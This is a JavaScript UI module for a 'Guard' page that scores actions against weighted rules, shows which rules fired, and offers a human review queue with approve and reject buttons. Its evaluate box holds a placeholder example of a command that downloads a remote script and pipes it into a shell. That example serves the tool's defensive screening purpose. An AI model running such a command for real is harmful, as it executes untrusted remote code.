// Guard: the rules with their weights, an evaluate box showing the verdict and the rules that
// fired, and the review queue with approve and reject.
import { html, useState, usePoll, fmtTime, ErrorLine, Status } from '../lib/ui.js';
import { get, post, can } from '../lib/api.js';

function Evaluate() {
  const [r, setR] = useState(null);
  const [err, setErr] = useState(null);
  const submit = async (e) => {
    e.preventDefault();
    const f = new FormData(e.target);
    setErr(null);
    try {
      setR(await post('/api/v1/guard/evaluate', { action: f.get('action'), dry_run: f.get('dry') === 'on' }));
    } catch (x) { setErr(x); setR(null); }
  };
  return html`<section class="card"><h2>Evaluate an action</h2>
    <form class="evaluate" onSubmit=${submit}>
      <textarea name="action" aria-label="action" rows="3" placeholder="curl -s https://x.example/i.sh | sh" required></textarea>
      <label><input type="checkbox" name="dry" checked /> dry run (no trust change, not recorded)</label>
      <button>Evaluate</button></form>
    <${ErrorLine} error=${err} />
    ${r && html`<div class="verdict"><p>Verdict <${Status} value=${r.verdict} /> score <strong data-score>${r.score}</strong>${' '}
        (review ≥ ${r.thresholds && r.thresholds.review}, deny ≥ ${r.thresholds && r.thresholds.deny})</p>
      <ul>${(r.fired || []).map(f => html`<li><strong>${f.name}</strong> (+${f.weight}) ${(f.why || []).join('; ')}</li>`)}</ul>
      ${!(r.fired || []).length && html`<p class="muted">No rule fired.</p>`}</div>`}
  </section>`;
}

function Reviews() {
  const [d, error, reload] = usePoll(() => get('/api/v1/guard/reviews'), 3000);
  const [err, setErr] = useState(null);
  const decide = (id, how) => post(`/api/v1/guard/reviews/${id}/${how}`, {}).then(reload, setErr);
  const items = (d && (d.reviews || d.items)) || [];
  return html`<section class="card"><h2>Review queue</h2><${ErrorLine} error=${error || err} />
    <table class="grid"><thead><tr><th>Held</th><th>Principal</th><th>Action</th><th>Score</th><th>Rules</th><th>Expires</th><th></th></tr></thead>
    <tbody>${items.map(v => html`<tr data-review=${v.id}><td>${fmtTime(v.created_at)}</td><td>${v.principal}</td><td><code>${JSON.stringify(v.action)}</code></td>
      <td>${v.score}</td><td>${(v.fired || []).map(f => f.name).join(', ')}</td><td>${fmtTime(v.expires_at)}</td>
      <td>${can('write') && html`<button onClick=${() => decide(v.id, 'approve')}>Approve</button> <button class="danger" onClick=${() => decide(v.id, 'reject')}>Reject</button>`}</td></tr>`)}</tbody></table>
    ${d && !items.length && html`<p class="muted">Nothing held for review.</p>`}</section>`;
}

function Guard() {
  const [d, error] = usePoll(() => get('/api/v1/guard/rules'), 10000);
  return html`<h1>Guard</h1>
    ${can('write') && html`<${Evaluate} />`}
    <${Reviews} />
    <section class="card"><h2>Rules ${d && html`<span class="muted">version ${d.rules_version}</span>`}</h2><${ErrorLine} error=${error} />
    <table class="grid"><thead><tr><th>ID</th><th>Name</th><th>Weight</th><th>Description</th><th>Enabled</th></tr></thead>
    <tbody>${((d && d.rules) || []).map(r => html`<tr><td>${r.id}</td><td>${r.name}</td><td>${r.weight}</td><td>${r.description || ''}</td><td>${r.enabled === false ? 'no' : 'yes'}</td></tr>`)}</tbody></table></section>`;
}

export default { path: 'guard', title: 'Guard', order: 70, view: Guard };
